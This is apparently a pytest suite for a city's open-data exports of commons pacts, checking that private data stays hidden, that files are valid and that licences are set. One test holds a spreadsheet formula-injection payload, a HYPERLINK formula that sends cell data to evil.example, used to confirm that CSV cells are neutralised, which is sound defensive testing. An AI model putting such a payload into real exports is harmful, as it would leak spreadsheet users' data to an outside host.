"""The open-data files: public data only, valid CSV, GeoJSON and Frictionless package."""

from __future__ import annotations

import csv
import io
import json

import frictionless
import geojson
from markupsafe import escape

from commons.audit.operations import append_event
from commons.extensions import db
from commons.public.opendata import DATASETS, EVENT_FIELDS, PACT_FIELDS
from tests.workflows.scenario import NOW, Cast, approve_and_sign, proposal_in
from workflows import fire

FILES = {
    "/open-data/pacts.csv": "text/csv; charset=utf-8",
    "/open-data/pacts.json": "application/json",
    "/open-data/events.csv": "text/csv; charset=utf-8",
    "/open-data/calls.csv": "text/csv; charset=utf-8",
    "/open-data/call-commons.csv": "text/csv; charset=utf-8",
    "/open-data/call-scores.csv": "text/csv; charset=utf-8",
    "/open-data/offers.csv": "text/csv; charset=utf-8",
    "/open-data/vacant-places.csv": "text/csv; charset=utf-8",
    "/open-data/commons.geojson": "application/geo+json",
    "/open-data/datapackage.json": "application/json",
}


def _rows(client, url: str) -> list[dict]:
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def _all_files(client) -> dict[str, str]:
    return {url: client.get(url).get_data(as_text=True) for url in FILES}


def test_every_file_is_served_with_its_content_type(client, make):
    cast = Cast()
    proposal_in("co_design", cast)
    for url, content_type in FILES.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.get_data()  # read the stream to its end, as a browser would
        assert response.content_type.startswith(content_type), (url, response.content_type)
        if url.endswith(".csv"):
            assert response.content_type == "text/csv; charset=utf-8"
            name = url.rsplit("/", 1)[1]
            assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
    assert client.get("/open-data/").status_code == 200


def test_a_proposal_in_co_design_shows_no_private_data(client, make):
    cast = Cast()
    cast.group.tax_code = "TAXCODE-PRIVATE-42"
    cast.group.email = "group-private@example.org"
    db.session.commit()
    p = proposal_in("co_design", cast)
    p.objectives = "PRIVATE-OBJECTIVES-TEXT"
    p.activities = "PRIVATE-ACTIVITIES-TEXT"
    db.session.commit()
    draft = make.proposal(cast.group, title="A draft nobody should see")

    files = _all_files(client)
    for url, body in files.items():
        for secret in (
            "PRIVATE-OBJECTIVES-TEXT",
            "PRIVATE-ACTIVITIES-TEXT",
            "Rita Representative",
            "TAXCODE-PRIVATE-42",
            "group-private@example.org",
            cast.representative.email,
            "A draft nobody should see",
        ):
            assert secret not in body, (url, secret)

    rows = _rows(client, "/open-data/pacts.csv")
    assert [int(r["id"]) for r in rows] == [p.id]
    row = rows[0]
    assert row["status"] == "co_design"
    assert row["status_label"] == "Co-design"
    assert row["representative"] == ""
    assert row["signed_pdf_url"] == ""
    assert row["proponent_type"] == "informal_group"
    assert row["commons_ids"] == ";".join(str(c.id) for c in p.commons)
    assert row["districts"] == "Centro"
    pacts = json.loads(files["/open-data/pacts.json"])
    assert [item["id"] for item in pacts] == [p.id]
    assert pacts[0]["representative"] is None
    assert draft.id not in [int(r["proposal_id"]) for r in _rows(client, "/open-data/events.csv")]


def test_a_signed_pact_shows_its_representative_and_signed_pdf(client, make):
    cast = Cast()
    p = proposal_in("legal_review", cast)
    approve_and_sign(cast, p)
    assert p.status == "active"

    row = _rows(client, "/open-data/pacts.csv")[0]
    assert row["representative"] == "Rita Representative"
    assert row["decision_number"] == "DD 5/2026"
    assert row["decision_date"] == "2026-05-30"
    assert row["signed_pdf_url"].startswith("http://localhost/documents/")
    assert row["signed_pdf_url"].endswith(".pdf")
    pdf = client.get(row["signed_pdf_url"].removeprefix("http://localhost"))
    assert pdf.status_code == 200
    assert pdf.content_type == "application/pdf"
    item = json.loads(client.get("/open-data/pacts.json").get_data(as_text=True))[0]
    assert item["representative"] == "Rita Representative"
    assert item["signed_pdf_url"] == row["signed_pdf_url"]

    events = _rows(client, "/open-data/events.csv")
    approve = next(e for e in events if e["trigger"] == "approve")
    assert (approve["act_number"], approve["act_date"]) == ("DD 5/2026", "2026-05-30")
    assert approve["actor_role"] == "legal"
    body = client.get("/open-data/events.csv").get_data(as_text=True)
    for name in ("Leo Legal", "Rita Representative", cast.legal.email):
        assert name not in body


def test_a_terminal_pact_after_signing_keeps_its_representative(client, make):
    cast = Cast()
    expired = proposal_in("expired", cast)
    rejected = proposal_in("rejected", cast)
    rows = {int(r["id"]): r for r in _rows(client, "/open-data/pacts.csv")}
    assert rows[expired.id]["representative"] == "Rita Representative"
    assert rows[rejected.id]["representative"] == ""


def test_events_have_no_reasons_and_no_private_events(client, make):
    cast = Cast()
    p = proposal_in("co_design", cast)
    fire(p, "reject", cast.legal, now=NOW, reasons="SECRET-REASON")
    append_event(
        "private_note",
        actor=cast.officer,
        actor_role="officer",
        proposal=p,
        payload={"message": "SECRET-MESSAGE"},
        public=False,
    )
    db.session.commit()

    body = client.get("/open-data/events.csv").get_data(as_text=True)
    assert "SECRET-REASON" not in body
    assert "SECRET-MESSAGE" not in body
    assert "Olga Officer" not in body and "Leo Legal" not in body
    rows = list(csv.DictReader(io.StringIO(body)))
    assert list(rows[0]) == [f.name for f in EVENT_FIELDS]
    triggers = [r["trigger"] for r in rows]
    assert "reject" in triggers
    assert "private_note" not in triggers
    reject = next(r for r in rows if r["trigger"] == "reject")
    assert (reject["from_state"], reject["to_state"]) == ("co_design", "rejected")
    assert reject["protocol_number"] == p.protocol_number
    for text in _all_files(client).values():
        assert "SECRET-REASON" not in text


def test_geojson_is_valid_with_coordinates(client, make):
    make.commons(name="Point park", latitude=44.5, longitude=11.3)
    make.commons(name="Nowhere", latitude=None, longitude=None)
    polygon = {
        "type": "Polygon",
        "coordinates": [[[11.0, 44.0], [11.1, 44.0], [11.1, 44.1], [11.0, 44.0]]],
    }
    make.commons(name="Outlined square", kind="square", geometry=polygon)

    text = client.get("/open-data/commons.geojson").get_data(as_text=True)
    collection = geojson.loads(text)
    assert collection.is_valid, collection.errors()
    assert collection["type"] == "FeatureCollection"
    names = {f["properties"]["name"]: f for f in collection["features"]}
    assert set(names) == {"Point park", "Outlined square"}
    assert names["Point park"]["geometry"]["coordinates"] == [11.3, 44.5]
    assert names["Outlined square"]["geometry"]["type"] == "Polygon"
    for feature in collection["features"]:
        geometry = geojson.GeoJSON.to_instance(feature["geometry"])
        assert geometry.is_valid, geometry.errors()
        assert set(feature["properties"]) == {
            "id",
            "name",
            "kind",
            "address",
            "district",
            "neighbourhood",
            "availability",
            "cadastral_reference",
        }


def test_datapackage_validates_with_frictionless(client, make, tmp_path):
    cast = Cast()
    proposal_in("co_design", cast)
    signed = proposal_in("legal_review", cast)
    approve_and_sign(cast, signed)
    rejected = proposal_in("co_design", cast)
    fire(rejected, "reject", cast.legal, now=NOW, reasons="SECRET-REASON")
    db.session.commit()
    make.commons(name="Unplaced", latitude=None, longitude=None)

    package = client.get("/open-data/datapackage.json").get_json()
    assert [r["path"] for r in package["resources"]] == [d.path for d in DATASETS]
    for resource in package["resources"]:
        assert "/" not in resource["path"]
        response = client.get(f"/open-data/{resource['path']}")
        assert response.status_code == 200
        (tmp_path / resource["path"]).write_bytes(response.get_data())
    (tmp_path / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")

    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert len(report.tasks) == len(DATASETS)
    rows = {task.name: task.stats["rows"] for task in report.tasks if task.stats.get("rows")}
    assert rows["pacts"] == rows["pacts-json"] == 3
    pacts = next(r for r in package["resources"] if r["path"] == "pacts.csv")
    assert [f["name"] for f in pacts["schema"]["fields"]] == [f.name for f in PACT_FIELDS]
    # The licence (COMMONS_OPEN_DATA_LICENSE, default CC-BY-4.0) on the package and each file.
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    assert all(r["licenses"] == package["licenses"] for r in package["resources"])
    assert package["contributors"] == [{"title": "Testville", "role": "publisher"}]


def test_the_city_chooses_the_licence_publisher_and_contact(app, client):
    app.config.update(
        OPEN_DATA_LICENSE="IODL-2.0",
        OPEN_DATA_PUBLISHER="Comune di Testville, Ufficio Beni Comuni",
        OPEN_DATA_CONTACT="opendata@testville.example",
    )
    package = client.get("/open-data/datapackage.json").get_json()
    assert package["licenses"] == [
        {
            "name": "IODL-2.0",
            "title": "Italian Open Data License 2.0",
            "path": "https://www.dati.gov.it/iodl/2.0/",
        }
    ]
    assert package["contributors"] == [
        {
            "title": "Comune di Testville, Ufficio Beni Comuni",
            "role": "publisher",
            "email": "opendata@testville.example",
        }
    ]


def test_the_page_lists_every_field_of_the_dictionary(client):
    html = client.get("/open-data/").get_data(as_text=True)
    for dataset in DATASETS:
        assert dataset.path in html
        for field in dataset.fields:
            assert f"<code>{field.name}</code>" in html, (dataset.path, field.name)
            assert str(escape(field.description)) in html, (dataset.path, field.name)
    assert "datapackage.json" in html


def test_pact_rows_list_commons_by_name_districts_once_and_read_the_audit_trail(client, make):
    """The database assembles these cells now (commons/public/opendata.py): the commons in the
    order of the proposal's list (by name), each district once in code-point order, and an
    archived pact's representative shown only if its audit trail shows it in force."""
    cast = Cast()
    p = proposal_in("co_design", cast)
    zeta = make.commons(name="Zeta", district="Savena")
    alfa = make.commons(name="Alfa", district="Navile")
    beta = make.commons(name="Beta", district="Savena")
    nowhere = make.commons(name="Casa", district=None)
    p.commons.extend([zeta, alfa, beta, nowhere])
    archived_signed = proposal_in("co_design", cast)
    archived_never = proposal_in("co_design", cast)
    for archived in (archived_signed, archived_never):
        archived.status = "archived"
    append_event(
        "sign", actor=cast.officer, proposal=archived_signed, from_state="x", to_state="active"
    )
    db.session.commit()

    rows = {int(r["id"]): r for r in _rows(client, "/open-data/pacts.csv")}
    ordered = sorted(p.commons, key=lambda c: (c.name, c.id))
    assert rows[p.id]["commons_ids"] == ";".join(str(c.id) for c in ordered)
    assert rows[p.id]["districts"] == "Centro;Navile;Savena"
    assert rows[archived_signed.id]["representative"] == "Rita Representative"
    assert rows[archived_never.id]["representative"] == ""
    items = {i["id"]: i for i in json.loads(client.get("/open-data/pacts.json").get_data())}
    assert items[p.id]["districts"] == "Centro;Navile;Savena"
    assert items[archived_never.id]["representative"] is None


HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_formula_like_text_is_neutralised_in_the_csv_files_only(client, make):
    """Spreadsheet formula injection (issue 14, defect 8): a text cell that a spreadsheet would
    run as a formula gets a ' in front in the CSV files, read back as typed; numbers and dates
    are not text and stay as they are; JSON keeps the text unchanged."""
    from commons.tables import restore

    cast = Cast()
    p = proposal_in("co_design", cast)
    p.title = HOSTILE_TITLE
    quoted = proposal_in("co_design", cast)
    quoted.title = "'=already quoted"
    append_event(
        "record_act",
        proposal=p,
        payload={"act_number": "-2+3", "act_date": "2026-05-30", "deliberation_number": "@x"},
        public=True,
    )
    db.session.commit()

    raw = client.get("/open-data/pacts.csv").get_data(as_text=True)
    assert ',"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",' in raw
    rows = {int(r["id"]): r for r in _rows(client, "/open-data/pacts.csv")}
    assert rows[p.id]["title"] == "'" + HOSTILE_TITLE
    assert rows[quoted.id]["title"] == "''=already quoted"
    assert restore(rows[p.id]["title"]) == HOSTILE_TITLE
    assert restore(rows[quoted.id]["title"]) == "'=already quoted"
    for row in rows.values():
        for name, value in row.items():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, value)

    events = [r for r in _rows(client, "/open-data/events.csv") if r["trigger"] == "record_act"]
    assert events[0]["act_number"] == "'-2+3"
    assert events[0]["deliberation_number"] == "'@x"
    assert events[0]["act_date"] == "2026-05-30" and events[0]["seq"].isdigit()

    items = {i["id"]: i for i in json.loads(client.get("/open-data/pacts.json").get_data())}
    assert items[p.id]["title"] == HOSTILE_TITLE


def test_negative_numbers_are_not_text():
    from commons.public.opendata import Field, csv_records

    fields = (Field("n", "integer", "n"), Field("t", "string", "t"), Field("d", "date", "d"))
    text = "".join(csv_records(fields, iter([(-3, "-3", "2026-01-02"), (4, "+x", "")])))
    assert text == "n,t,d\r\n-3,'-3,2026-01-02\r\n4,'+x,\r\n"


def test_the_rule_is_explained_on_the_page_and_in_the_package(client):
    from commons.public.opendata import SAFE_TABLES

    html = client.get("/open-data/").get_data(as_text=True)
    assert str(escape(SAFE_TABLES)) in html
    package = client.get("/open-data/datapackage.json").get_json()
    for resource in package["resources"]:
        assert (str(SAFE_TABLES) in resource["description"]) == (resource["format"] == "csv")
